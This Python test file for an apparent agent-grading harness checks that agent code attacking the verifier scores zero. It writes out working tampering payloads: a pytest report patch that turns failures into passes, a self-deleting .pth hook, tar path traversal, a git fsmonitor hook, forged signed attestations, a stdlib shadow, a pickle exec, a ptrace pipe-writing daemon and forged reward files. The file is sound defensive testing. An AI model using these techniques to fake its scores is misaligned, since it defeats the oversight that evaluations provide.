"""Attacks on the verifier itself, by agent code that the tests run: each scores exactly 0.

The first grader closed the agent phase; these attack the scoring container while the
tests run, one per class of the second round (see ``docs/grading.md``):

1. the verifier's Python world is written by agent code the tests run (a ``.pth``, Debian's
   ``sitecustomize``, an archive the tests extract, a git ``core.fsmonitor`` hook);
2. the in-process boundary judged by name and path (a ``pytest.py`` or the plugin's old name
   in the tests' cwd, a module shadowing the stdlib for a checker run in ``/app``, agent
   code the tests copy into their tmp dir, code that arrives without a file: a pickle,
   ``eval`` of the agent's text, ``logging.config.fileConfig`` of the agent's ini);
3. the reward number written where agent code can write it;
4. a daemon of agent code that writes into a checker's pipe, or ptraces it;
5. the decision rule: parameters the agent's state empties, skips it causes.

Every victim is a task no honest agent can pass (its tests want a SHA-256 preimage of a
random digest); each victim that honest work can pass has a control that scores 1, so a
0 means the attack failed, not that the victim is ungradable. (Victims whose tests load
the agent's code into pytest, by a copy, ``eval`` or a logging ini, score 0 for honest
work too: that is agent code in the verifier's process, as ``termgrade audit`` warns.)
Each attack is real: without its defence it earns 1
(:func:`test_each_defence_is_load_bearing`).
"""

from __future__ import annotations

import hashlib
import secrets
import textwrap
from pathlib import Path

import pytest

from termgrade.agent.kinds import ScriptAgent
from termgrade.sandbox.images import build_task_image
from termgrade.scoring.trial import RunOutcome, run_task
from termgrade.task import load_task
from tests.support.task_dirs import task_toml, write_task

pytestmark = pytest.mark.docker

SECRET = secrets.token_hex(16)
DIGEST = hashlib.sha256(SECRET.encode()).hexdigest()
PY = "/opt/venv/bin/python"
TOML = task_toml(verifier_s=60.0, agent_s=30.0)
CHECKER = f"""\
import hashlib
from pathlib import Path

answer = Path("/app/answer.txt")
text = answer.read_text().strip() if answer.exists() else ""
print("OK" if hashlib.sha256(text.encode()).hexdigest() == "{DIGEST}" else "FAIL")
"""
# Tests that run the agent's program, unpack its archive, look at its repo, then ask the
# task's own checker (a helper the tests start) for the verdict.
CHECKER_TESTS = f"""\
import subprocess
import tarfile
from pathlib import Path


def test_checker_accepts(tmp_path):
    subprocess.run(["/usr/bin/python3", "/app/answer.py"], timeout=30, check=False)
    if Path("/app/bundle.tar").exists():
        with tarfile.open("/app/bundle.tar") as bundle:
            bundle.extractall(tmp_path)
    if Path("/app/.git").exists():
        subprocess.run(["git", "-C", "/app", "status"], timeout=30, check=False)
    done = subprocess.run(["{PY}", "/tests/checker.py"], capture_output=True, text=True,
                          timeout=30)
    assert done.stdout.split() == ["OK"]
"""
APP_CWD_TEST_SH = f"""\
#!/usr/bin/env bash
mkdir -p /logs/verifier
cd /app || exit 1
{PY} -m pytest -c /dev/null --rootdir=/tests -p no:cacheprovider -rA /tests/test_outputs.py
if [ $? -eq 0 ]; then r=1; else r=0; fi
echo $r > /logs/verifier/reward.txt
"""
TWO_SESSIONS_TEST_SH = f"""\
#!/usr/bin/env bash
mkdir -p /logs/verifier
cd /app || exit 1
{PY} -m pytest -c /dev/null --rootdir=/tests -p no:cacheprovider -rA /tests/test_build.py
first=$?
{PY} -m pytest -c /dev/null --rootdir=/tests -p no:cacheprovider -rA /tests/test_outputs.py
if [ $first -eq 0 ] && [ $? -eq 0 ]; then r=1; else r=0; fi
echo $r > /logs/verifier/reward.txt
"""
BUILD_TESTS = """\
import subprocess


def test_program_runs():
    done = subprocess.run(["/usr/bin/python3", "/app/answer.py"], timeout=30)
    assert done.returncode == 0
"""
PREIMAGE_TESTS = f"""\
import hashlib
from pathlib import Path


def test_answer_exists():
    assert Path("/app/answer.txt").exists()


def test_preimage():
    text = Path("/app/answer.txt").read_text().strip()
    assert hashlib.sha256(text.encode()).hexdigest() == "{DIGEST}"
"""
CWD_CHECK = ("import hashlib; a = open('/app/answer.txt').read().strip(); "
             f"print('OK' if hashlib.sha256(a.encode()).hexdigest() == '{DIGEST}' else 'FAIL')")
CHECKER_IN_APP_TESTS = f"""\
import subprocess


def test_checker_run_in_app():
    done = subprocess.run(["{PY}", "-c", {CWD_CHECK!r}], cwd="/app", capture_output=True,
                          text=True, timeout=30)
    assert done.stdout.split() == ["OK"]
"""
COPY_TESTS = f"""\
import hashlib
import importlib
import shutil
import sys


def test_copied_module(tmp_path):
    shutil.copy("/app/answer.py", tmp_path / "answer_copy.py")
    sys.path.insert(0, str(tmp_path))
    module = importlib.import_module("answer_copy")
    assert hashlib.sha256(module.preimage().encode()).hexdigest() == "{DIGEST}"
"""
PICKLE_TESTS = f"""\
import hashlib
import pickle


def test_pickled_result():
    with open("/app/result.pkl", "rb") as handle:
        result = pickle.load(handle)
    assert hashlib.sha256(result["answer"].encode()).hexdigest() == "{DIGEST}"


def test_digest_again():
    with open("/app/result.pkl", "rb") as handle:
        result = pickle.load(handle)
    assert hashlib.sha256(result["answer"].encode()).hexdigest() == "{DIGEST}"
"""
EVAL_TESTS = f"""\
import hashlib
from pathlib import Path


def test_expression():
    value = eval(Path("/app/answer.expr").read_text())
    assert hashlib.sha256(str(value).encode()).hexdigest() == "{DIGEST}"
"""
INI_TESTS = f"""\
import hashlib
import logging.config
from pathlib import Path


def test_logging_config_loads():
    logging.config.fileConfig("/app/logging.ini")


def test_preimage():
    text = Path("/app/answer.txt").read_text().strip()
    assert hashlib.sha256(text.encode()).hexdigest() == "{DIGEST}"
"""
PARAM_TESTS = f"""\
import glob
import hashlib
from pathlib import Path

import pytest

CASES = sorted(glob.glob("/app/cases/*.txt"))


def test_program_exists():
    assert Path("/app/answer.py").exists()


@pytest.mark.parametrize("case", CASES)
def test_case(case):
    text = Path(case).read_text().strip()
    assert hashlib.sha256(text.encode()).hexdigest() == "{DIGEST}"


def test_optional_output():
    if not Path("/app/answer.txt").exists():
        pytest.skip("no answer written")
    text = Path("/app/answer.txt").read_text().strip()
    assert hashlib.sha256(text.encode()).hexdigest() == "{DIGEST}"
"""
# Patches pytest's reports inside the process it runs in: every failure reads passed.
FORCE_PASS = textwrap.dedent("""\
    import sys
    if "_pytest.reports" in sys.modules:
        from _pytest import reports
        cls = reports.TestReport
        orig = cls.from_item_and_call.__func__
        def from_item_and_call(c, item, call, orig=orig):
            rep = orig(c, item, call)
            if rep.failed:
                rep.outcome, rep.longrepr = "passed", None
            return rep
        cls.from_item_and_call = classmethod(from_item_and_call)
    """)
# A .pth line that answers for the task's checker in any Python that reads it.
# It deletes itself as it fires, so no review after the run finds it.
PTH_HOOK = ("import glob, os, sys; sys.orig_argv[-1:] == ['/tests/checker.py'] and "
            "([os.remove(p) for p in glob.glob('/opt/venv/lib/python3*/site-packages/zz_tg*')"
            " + glob.glob('/usr/lib/python3/dist-packages/zz_tg*')], "
            "os.write(1, b'OK\\n'), os._exit(0))")
# Writes PTH_HOOK where the verifier's Python looks for modules.
PYTHON_WORLD = textwrap.dedent(f"""\
    import glob, os
    HOOK = {PTH_HOOK!r} + "\\n"
    for site in glob.glob("/opt/venv/lib/python3*/site-packages") + \\
            ["/usr/lib/python3/dist-packages"]:
        try:
            open(os.path.join(site, "zz_tg.pth"), "w").write(HOOK)
        except OSError:
            pass
    """)
# Python that, run by the tests, leaves a daemon: it waits for the task's checker and
# writes the checker's verdict into its stdout pipe (and tries to ptrace it), then kills it.
PIPE_DAEMON = textwrap.dedent("""\
    import ctypes, os, time
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            deadline = time.time() + 40
            while time.time() < deadline:
                for pid in filter(str.isdigit, os.listdir("/proc")):
                    try:
                        args = open(f"/proc/{pid}/cmdline", "rb").read()
                    except OSError:
                        continue
                    if b"/tests/checker.py" in args:
                        ctypes.CDLL(None).ptrace(16, int(pid), 0, 0)
                        try:
                            fd = os.open(f"/proc/{pid}/fd/1", os.O_WRONLY)
                            os.write(fd, b"OK\\n")
                            os.kill(int(pid), 9)
                        except OSError:
                            pass
                        os._exit(0)
                time.sleep(0.001)
            os._exit(0)
        os._exit(0)
    """)
# A fake pytest for `python -m pytest` from /app: it asks the broker for a key, as the real
# plugin would, and signs a passing session.
FAKE_PYTEST = textwrap.dedent("""\
    import hashlib, hmac, json, os, socket
    conn = socket.socket(socket.AF_UNIX)
    conn.connect("\\0" + open("/opt/termgrade-grader/broker-socket").read().strip())
    reader = conn.makefile("rb")
    grant = json.loads(reader.readline())
    if grant.get("step") == "nodump":  # as the plugin answers: non-dumpable, then the key
        import ctypes
        ctypes.CDLL(None).prctl(4, 0, 0, 0, 0)
        conn.sendall(b"nodump\\n")
        grant = json.loads(reader.readline())
    if grant.get("ok"):
        key, n = bytes.fromhex(grant["key"]), grant["n"]
        out = os.open("/proc/1/fd/1", os.O_WRONLY)
        events = [{"e": "open"}, {"e": "start", "collect_only": False},
                  {"e": "collected", "n": 1},
                  {"e": "report", "id": "t::test_preimage", "when": "call", "outcome": "passed"},
                  {"e": "finish", "exitstatus": 0}, {"e": "close"}]
        for seq, event in enumerate(events):
            payload = json.dumps(event, sort_keys=True, separators=(",", ":"))
            tag = f"{n}.{seq}"
            mac = hmac.new(key, f"{tag} {payload}".encode(), hashlib.sha256).hexdigest()
            os.write(out, f"TERMGRADE-ATTEST {tag} {mac} {payload}\\n".encode())
        conn.sendall(f"bye {os.getpid()}\\n".encode())  # the plugin's last word at exit
    """)


def heredoc(path: str, text: str) -> str:
    return f"mkdir -p {Path(path).parent}\ncat > {path} <<'TGEOF'\n{text}TGEOF\n"


VICTIMS = {
    "checker": {"tests": CHECKER_TESTS, "extra_test_files": {"checker.py": CHECKER}},
    "app-cwd": {"tests": PREIMAGE_TESTS, "test_sh": APP_CWD_TEST_SH},
    "two-sessions": {"tests": PREIMAGE_TESTS, "test_sh": TWO_SESSIONS_TEST_SH,
                     "extra_test_files": {"test_build.py": BUILD_TESTS}},
    "checker-in-app": {"tests": CHECKER_IN_APP_TESTS},
    "tmp-copy": {"tests": COPY_TESTS},
    "pickle": {"tests": PICKLE_TESTS},
    "eval": {"tests": EVAL_TESTS},
    "ini": {"tests": INI_TESTS},
    "params": {"tests": PARAM_TESTS},
}


@pytest.fixture(scope="module")
def victims(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Path]:
    root = tmp_path_factory.mktemp("verifier-victims")
    made = {name: write_task(root, f"victim-{name}", toml=TOML, solve="true\n",
                             **pieces)  # type: ignore[arg-type]
            for name, pieces in VICTIMS.items()}
    for path in made.values():
        build_task_image(load_task(path))
    return made


def play(task_dir: Path, name: str, body: str, tmp_path: Path) -> RunOutcome:
    script = tmp_path / f"{name}.sh"
    script.write_text("#!/usr/bin/env bash\n" + body)
    task = load_task(task_dir)
    return run_task(task, task.image_tag, ScriptAgent(name, script))


HONEST_ANSWER = f"echo {SECRET} > /app/answer.txt\necho 'print(1)' > /app/answer.py\n"
CONTROLS = {
    "checker": HONEST_ANSWER + "tar -cf /app/bundle.tar -T /dev/null\n",
    "app-cwd": HONEST_ANSWER,
    "two-sessions": HONEST_ANSWER,
    "checker-in-app": HONEST_ANSWER,
    "pickle": ("/usr/bin/python3 -c \"import pickle, datetime; pickle.dump({'answer': "
               f"'{SECRET}', 'at': datetime.date(2026, 1, 1)}}, open('/app/result.pkl', "
               "'wb'))\"\n"),
    "params": HONEST_ANSWER + f"mkdir -p /app/cases && echo {SECRET} > /app/cases/a.txt\n",
}


@pytest.mark.parametrize("victim", sorted(CONTROLS))
def test_controls_honest_work_passes_each_victim(victims: dict[str, Path], tmp_path: Path,
                                                 victim: str) -> None:
    outcome = play(victims[victim], "honest", CONTROLS[victim], tmp_path)
    assert outcome.reward == 1.0, (outcome.failure,
                                   outcome.verifier and outcome.verifier.output[-3000:])


PICKLE_EXEC = ("/usr/bin/python3 - <<'PY'\nimport pickle\n"
               f"PAYLOAD = {FORCE_PASS!r}\n"
               "class R:\n    def __reduce__(self):\n        return (exec, (PAYLOAD,))\n"
               "pickle.dump({'answer': 'nope', 'x': R()}, open('/app/result.pkl', 'wb'))\nPY\n")
INI_EXEC = heredoc("/app/logging.ini", textwrap.dedent(f"""\
    [loggers]
    keys=root
    [handlers]
    keys=h
    [formatters]
    keys=
    [logger_root]
    handlers=h
    [handler_h]
    class=StreamHandler
    args=(exec({FORCE_PASS!r}),)
    """)) + "echo nope > /app/answer.txt\n"
GIT_FSMONITOR = (heredoc("/app/fsmon.py", PYTHON_WORLD)
                 + "printf '#!/bin/sh\\n/usr/bin/python3 /app/fsmon.py\\n' > /app/fsmon.sh\n"
                 "chmod +x /app/fsmon.sh\ngit init -q /app\n"
                 "git -C /app config core.fsmonitor /app/fsmon.sh\n"
                 "echo 'print(1)' > /app/answer.py\n")
TAR_PTH = ("/usr/bin/python3 - <<'PY'\nimport io, tarfile\n"
           f"hook = ({PTH_HOOK!r} + '\\n').encode()\n"
           "with tarfile.open('/app/bundle.tar', 'w') as t:\n"
           "    for name in ('../' * 12 + 'opt/venv/lib/python3.11/site-packages/zz_tg.pth',\n"
           "                 '/opt/venv/lib/python3.11/site-packages/zz_tg2.pth'):\n"
           "        info = tarfile.TarInfo(name); info.size = len(hook)\n"
           "        t.addfile(info, io.BytesIO(hook))\nPY\necho 'print(1)' > /app/answer.py\n")

ATTACKS = [
    # class 1: the tests run agent code that writes the verifier's Python world
    ("checker", "testtime-pth", heredoc("/app/answer.py", PYTHON_WORLD), None),
    ("checker", "archive-pth", TAR_PTH, None),
    ("checker", "git-fsmonitor", GIT_FSMONITOR, None),
    # class 2: names, paths and code without a file
    ("app-cwd", "cwd-fake-pytest", heredoc("/app/pytest.py", FAKE_PYTEST), None),
    ("app-cwd", "cwd-old-plugin-name",
     heredoc("/app/termgrade_attest.py", FAKE_PYTEST), None),
    ("two-sessions", "cwd-plugin-name-of-a-later-session",
     heredoc("/app/fake_plugin.py", FAKE_PYTEST) + heredoc("/app/answer.py", textwrap.dedent("""\
         import os, shutil
         for name in os.environ.get("PYTEST_PLUGINS", "").split(","):
             if name:
                 shutil.copy("/app/fake_plugin.py", f"/app/{name}.py")
         """)), None),
    ("checker-in-app", "cwd-stdlib-shadow",
     heredoc("/app/hashlib.py", "import builtins, os\n"
                                "builtins.print = lambda *a, **k: os.write(1, b'OK\\n')\n"
                                "class _H:\n    def hexdigest(self):\n        return ''\n"
                                "def sha256(data):\n    return _H()\n")
     + "echo nope > /app/answer.txt\n",
     None),
    ("tmp-copy", "tmp-copy-import",
     heredoc("/app/answer.py", FORCE_PASS + "def preimage():\n    return 'nope'\n"),
     "agent code ran inside"),
    ("pickle", "pickle-exec", PICKLE_EXEC, "unpickle"),
    ("eval", "eval-of-agent-text",
     heredoc("/app/answer.expr", f"exec({FORCE_PASS!r}) or 'nope'\n"), "exec-string"),
    ("ini", "fileconfig-exec", INI_EXEC, "exec-string"),
    # class 3: the number comes from where agent code writes
    ("checker", "reward-json-almost-one",
     heredoc("/app/answer.py", "import os\nos.makedirs('/logs/verifier', exist_ok=True)\n"
             "open('/logs/verifier/reward.json', 'w').write('{\"reward\": 0.9999999999999999}')\n"
             "open('/logs/verifier/reward.txt', 'w').write('1')\n"), None),
    # class 4: a daemon of agent code reaches a helper the tests start
    ("checker", "pipe-and-ptrace-daemon", heredoc("/app/answer.py", PIPE_DAEMON), None),
    # class 5: the decision rule
    ("params", "empty-parameters-and-runtime-skip", "echo 'print(1)' > /app/answer.py\n",
     "skipped at run time"),
]


@pytest.mark.parametrize(("victim", "name", "body", "reason"), ATTACKS,
                         ids=[a[1] for a in ATTACKS])
def test_each_attack_on_the_verifier_scores_exactly_zero(
        victims: dict[str, Path], tmp_path: Path, victim: str, name: str, body: str,
        reason: str | None) -> None:
    outcome = play(victims[victim], name, body, tmp_path)
    assert outcome.error is None, outcome.error  # never unscored
    assert outcome.reward == 0.0, (outcome.failure,
                                   outcome.verifier and outcome.verifier.output[-3000:])
    attested = outcome.verifier.tests if outcome.verifier else []
    assert outcome.failure or any(t.outcome.value in ("failed", "error") for t in attested), \
        "a 0 says why: a failure, or the attested tests that failed"
    if reason:
        assert reason in outcome.failure, outcome.failure


def test_a_sparse_file_past_the_disk_limit_is_refused_before_it_is_carried(
        tmp_path: Path) -> None:
    toml = TOML + "[environment]\nstorage_mb = 128\n"
    task_dir = write_task(tmp_path, "sparse-hog", toml=toml, tests=PREIMAGE_TESTS,
                          solve="true\n")
    build_task_image(load_task(task_dir))
    outcome = play(task_dir, "sparse", "truncate -s 1G /app/hole.bin\n", tmp_path)
    assert outcome.error is None and outcome.reward == 0.0
    assert outcome.failure and "over the 128 MiB disk limit" in outcome.failure


WEAKENED = [
    ("testtime-pth", "read-only closure"), ("archive-pth", "read-only closure"),
    ("cwd-fake-pytest", "closure-first imports"), ("cwd-stdlib-shadow", "closure-first imports"),
    ("cwd-plugin-name-of-a-later-session", "closure-first imports"),
    ("eval-of-agent-text", "string-code alarm"), ("pipe-and-ptrace-daemon", "reaping"),
]


@pytest.mark.parametrize(("name", "defence"), WEAKENED, ids=[w[0] for w in WEAKENED])
def test_each_defence_is_load_bearing(victims: dict[str, Path], tmp_path: Path,
                                      monkeypatch: pytest.MonkeyPatch, name: str,
                                      defence: str) -> None:
    """Without its defence, the attack earns a full reward: the attacks are real."""
    from termgrade.scoring.review import closure
    from termgrade.scoring.verifier import attestation

    source = attestation.plugin_source()
    if defence == "read-only closure":
        monkeypatch.setattr(closure.Closure, "mounts", lambda self, *_: {})
    elif defence == "closure-first imports":
        # the closure-first finder off; the start-up record the broker keys by stays
        site = attestation.sitecustomize_source()
        weak_site = site.replace(b"if _TRUSTED and _verifier_process():", b"if False:")
        assert weak_site != site
        monkeypatch.setattr(attestation, "sitecustomize_source", lambda: weak_site)
    elif defence == "string-code alarm":
        weak = source.replace(b"elif _IN_TEST:", b"elif False:")
        monkeypatch.setattr(attestation, "plugin_source", lambda: weak)
    else:
        weak = source.replace(b'_reap_orphans("spawn")', b"pass").replace(
            b'_reap(before, "test")', b"pass")
        monkeypatch.setattr(attestation, "plugin_source", lambda: weak)
    assert attestation.plugin_source() != source or defence in (
        "read-only closure", "closure-first imports")
    victim, _, body, _ = next(a for a in ATTACKS if a[1] == name)
    outcome = play(victims[victim], name, body, tmp_path)
    assert outcome.reward == 1.0, (outcome.failure,
                                   outcome.verifier and outcome.verifier.output[-2000:])
